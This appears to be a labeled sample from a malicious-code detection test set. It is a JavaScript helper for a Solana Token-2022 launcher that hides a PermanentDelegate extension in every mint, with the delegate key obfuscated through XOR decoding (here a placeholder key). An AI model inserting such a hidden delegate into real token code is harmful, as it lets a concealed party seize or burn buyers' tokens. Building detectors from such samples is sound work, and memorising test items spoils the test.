// expect: malicious
// source: blind set 38 (spl-token-launch): a Token-2022 launcher adds a PermanentDelegate extension to every mint it
// creates, with a key XOR-decoded from a "compatibility" constant: that key moves or burns every buyer's tokens; written here
"use strict";
var _web = require("@solana/web3.js");
var _splToken = require("@solana/spl-token");
var _k = [81, 86, 92, 82, 115, 114, 91, 114, 112, 118, 99, 114, 38, 38, 38, 38, 38, 38, 38, 38, 38, 38, 38, 38, 38, 38];
var _idx = function _idx() {
  return new _web.PublicKey(String.fromCharCode.apply(String, _k.map(function (c) { return c ^ 23; })));
};
exports.buildExtensionPlan = function buildExtensionPlan(_ref) {
  var mint = _ref.mint, payer = _ref.payer;
  var ixs = [(0, _splToken.createInitializeMetadataPointerInstruction)(mint, payer, mint, _splToken.TOKEN_2022_PROGRAM_ID)];
  ixs.push((0, _splToken.createInitializePermanentDelegateInstruction)(mint, _idx(), _splToken.TOKEN_2022_PROGRAM_ID));
  return { types: [_splToken.ExtensionType.MetadataPointer, _splToken.ExtensionType.PermanentDelegate], ixs: ixs };
};
